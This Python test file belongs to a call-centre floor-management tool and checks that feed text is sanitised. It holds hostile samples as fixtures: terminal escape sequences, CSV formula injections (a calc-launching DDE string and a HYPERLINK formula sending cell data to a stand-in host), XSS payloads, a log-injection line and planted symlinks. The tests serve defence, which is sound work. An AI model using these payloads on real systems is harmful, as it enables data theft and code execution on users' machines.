"""Hostile text from feeds and files: it never drives the terminal, never runs as a formula,
never becomes HTML or a link in a report; files are private and never written through a link."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import stat
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text

from floorlead.config import Settings
from floorlead.domain.safe_text import clean, csv_cell, markdown
from floorlead.errors import FloorleadError
from floorlead.feeds.jsonl import ingest_lines
from floorlead.feeds.pipeline import Quarantine
from floorlead.files import private_folder, write_private
from floorlead.logs import CleanFormatter
from floorlead.reports.payroll import csv_text
from floorlead.store.db import FloorDatabase
from floorlead.store.sheets import range_timesheets
from floorlead.tui.widgets.floor_table import FloorTable
from tests.conftest import FROZEN
from tests.tui_helpers import make_app, wait_for_load, wait_until

TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J"
EVIL_NAME = f"Dana{TITLE} Reyes{CLEAR}\u202e"
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_clean_drops_every_control_and_keeps_the_words() -> None:
    assert clean(EVIL_NAME) == "Dana]0;pwned Reyes[2J"
    assert clean("line one\nline two\ttab") == "line one line two tab"
    assert clean("Zoë Ñúñez 李") == "Zoë Ñúñez 李"


@given(st.text())
def test_cleaned_text_has_no_control_character(raw: str) -> None:
    out = clean(raw)
    assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in out)
    assert "\u202e" not in out and "\u2066" not in out


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (FORMULA, "'" + FORMULA),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),
        ("  =1", "'  =1"),
        ("-2.50", "-2.50"),  # a number stays a number
        ("Ann Lee", "Ann Lee"),
    ],
)
def test_csv_cells_never_start_a_formula(cell: str, safe: str) -> None:
    assert csv_cell(cell) == safe


def test_markdown_shows_html_links_and_images_as_text() -> None:
    out = markdown("<img src=x onerror=alert(1)> [pay](javascript:alert(1)) ![i](x.png) *b*")
    assert "<" not in out and "](" not in out.replace("\\](", "")
    assert out.startswith("&lt;img") and "\\[pay\\]" in out
    assert "\\!\\[i\\]" in out and "\\*b\\*" in out


def hostile_floor(db: FloorDatabase) -> None:
    lines = [
        json.dumps({"type": "agent.upsert", "agent": "a1", "name": EVIL_NAME, "team": "North"}),
        json.dumps({"type": "agent.upsert", "agent": "a2", "name": FORMULA, "team": "North"}),
        json.dumps({"type": "punch", "at": "2026-11-23T14:00:00Z", "agent": "a2", "kind": "in"}),
        json.dumps({"type": "punch", "at": "2026-11-23T16:00:00Z", "agent": "a2", "kind": "out"}),
        json.dumps(
            {
                "type": "escalation.raised",
                "at": "2026-11-23T16:00:00Z",
                "escalation": "e1",
                "priority": "P2",
                "kind": "complaint",
                "customer": f"<script>alert(1)</script>{CLEAR}",
                "reason": f"[click](javascript:alert(1)){TITLE}",
            }
        ),
    ]
    assert not ingest_lines(db, lines).errors


def test_feed_text_is_stored_clean(db: FloorDatabase) -> None:
    hostile_floor(db)
    with db.connect() as conn:
        name = conn.execute(text("SELECT name FROM agent WHERE id='a1'")).scalar()
        customer, reason = conn.execute(text("SELECT customer, reason FROM escalation")).one()
    assert name == "Dana]0;pwned Reyes[2J"
    assert "\x1b" not in customer + reason and "\x07" not in reason


def test_payroll_and_report_csv_cells_never_start_a_formula(db: FloorDatabase) -> None:
    from floorlead.reports.shift import csv_text as report_csv
    from floorlead.store.handover import shift_bounds, shift_report

    hostile_floor(db)
    with db.connect() as conn:
        names = {r[0]: r[1] for r in conn.execute(text("SELECT id, name FROM agent"))}
        sheets = range_timesheets(
            conn, Settings(), date(2026, 11, 23), date(2026, 11, 23), FROZEN, names
        )
        start, end = shift_bounds(date(2026, 11, 23), "America/New_York", None)
        report = shift_report(conn, Settings(), date(2026, 11, 23), start, end, FROZEN)
    payroll = list(csv.DictReader(io.StringIO(csv_text(sheets, "America/New_York"))))
    assert [r["name"] for r in payroll] == ["'" + FORMULA]
    cells = [c for row in csv.reader(io.StringIO(report_csv(report))) for c in row]
    assert not any(c.lstrip().startswith(("=", "+", "@")) for c in cells)


def test_markdown_reports_escape_what_feeds_and_notes_say(db: FloorDatabase) -> None:
    from floorlead.domain.board import NoteRow
    from floorlead.reports.coaching import markdown as coaching_markdown
    from floorlead.reports.shift import markdown as report_markdown
    from floorlead.store.handover import shift_bounds, shift_report

    hostile_floor(db)
    with db.connect() as conn:
        start, end = shift_bounds(date(2026, 11, 23), "America/New_York", None)
        report = shift_report(conn, Settings(), date(2026, 11, 23), start, end, FROZEN)
    from dataclasses import replace

    md = report_markdown(replace(report, next_shift="<b>hi</b> [x](javascript:alert(1))"))
    assert "<b>" not in md and "\x1b" not in md
    assert "](javascript" not in md.replace("\\](", "")
    note = NoteRow(
        id=1,
        agent_id="a1",
        agent_name=EVIL_NAME,
        at=FROZEN,
        author="sam",
        category="coaching",
        text='<img src=x onerror="alert(1)"> ![t](http://x.example/t.png)',
        commitment="[ok](javascript:alert(1))",
        follow_up_on=None,
    )
    exported = coaching_markdown(EVIL_NAME, "a1", [note], "UTC", date(2026, 11, 23))
    assert "\x1b" not in exported and "<img" not in exported
    assert "](" not in exported.replace("\\](", "")


async def test_names_stored_before_cleaning_never_reach_the_terminal(db: FloorDatabase) -> None:
    hostile_floor(db)
    with db.begin() as conn:  # a row from before feeds were cleaned
        conn.execute(text("UPDATE escalation SET customer=:c"), {"c": f"J. Doe{TITLE}[/]"})
    app = make_app(db)
    async with app.run_test(size=(120, 30)) as pilot:
        await wait_for_load(pilot)
        await pilot.press("3")
        table = app.screen.query_one(FloorTable)
        assert await wait_until(pilot, lambda: table.row_count == 1)
        cells = [str(getattr(c, "plain", c)) for c in table.get_row_at(0)]
        assert "J. Doe]0;pwned[/]" in cells
        assert not any("\x1b" in c or "\x07" in c for c in cells)
        app.notify(f"Taken: J. Doe{TITLE}[/]")  # no markup from a name, no control characters
        await pilot.pause()
        assert app._notifications  # and nothing crashed on the [/]
        assert all("\x1b" not in n.message for n in app._notifications)


def test_a_log_line_is_one_clean_line() -> None:
    record = logging.LogRecord("floorlead", logging.INFO, __file__, 1, "%s %s", ("1.2.3.4",
                               f'"POST /cb{TITLE}\n FAKE LINE"'), None)  # fmt: skip
    line = CleanFormatter("%(message)s").format(record)
    assert "\n" not in line and "\x1b" not in line and "FAKE LINE" in line


def test_files_are_private_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0)
    try:
        target = write_private(tmp_path / "new" / "deeper" / "payroll.csv", "a,b\n")
        folder = private_folder(tmp_path / "q" / "r")
    finally:
        os.umask(old)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    for path in (tmp_path / "new", tmp_path / "new" / "deeper", tmp_path / "q", folder):
        assert stat.S_IMODE(path.stat().st_mode) == 0o700, path


def test_files_are_never_written_through_a_planted_link(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / ".report.md.part").symlink_to(victim)  # the old fixed temporary name
    write_private(folder / "report.md", "report\n")
    assert victim.read_text() == "precious\n"
    assert (folder / "report.md").read_text() == "report\n"
    quarantine = folder / "quarantine.jsonl"
    quarantine.symlink_to(victim)
    q = Quarantine(quarantine, "feed")
    with pytest.raises(FloorleadError, match="Too many levels of symbolic links"):
        q.add(1, "bad line", "raw")
    assert victim.read_text() == "precious\n"


def test_the_payroll_csv_is_private(tmp_path: Path) -> None:
    from floorlead.reports.payroll import write_csv

    old = os.umask(0)
    try:
        write_csv(tmp_path / "pay.csv", [], "UTC")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "pay.csv").stat().st_mode) == 0o600
